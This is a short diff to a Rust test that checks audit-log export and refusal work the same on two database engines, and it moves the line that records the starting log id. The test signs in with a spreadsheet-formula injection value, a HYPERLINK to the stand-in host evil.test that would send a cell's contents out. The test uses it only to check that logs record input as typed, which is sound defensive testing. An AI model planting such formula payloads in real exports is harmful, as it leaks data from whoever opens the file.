@@ -218,9 +218,10 @@ mod on_both_engines {
     fn the_log_is_exported_and_refused_the_same_on_both_engines() {
         same_on_each_engine(|org, place| {
             let engine = place.engine();
+            // Every entry from here on is this engine's own, its moment too (sign-ins included).
+            let start = number(org, "SELECT max(id) FROM audit_log", &[]);
             let admin = sign_in(org, "dana.reyes");
             let it_admin = sign_in(org, "sam.okafor");
-            let start = number(org, "SELECT max(id) FROM audit_log", &[]);
             // A login typed as a spreadsheet formula is recorded as typed.
             let formula = "=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")";
             org.sign_in(formula, "wrong-password").unwrap_err();
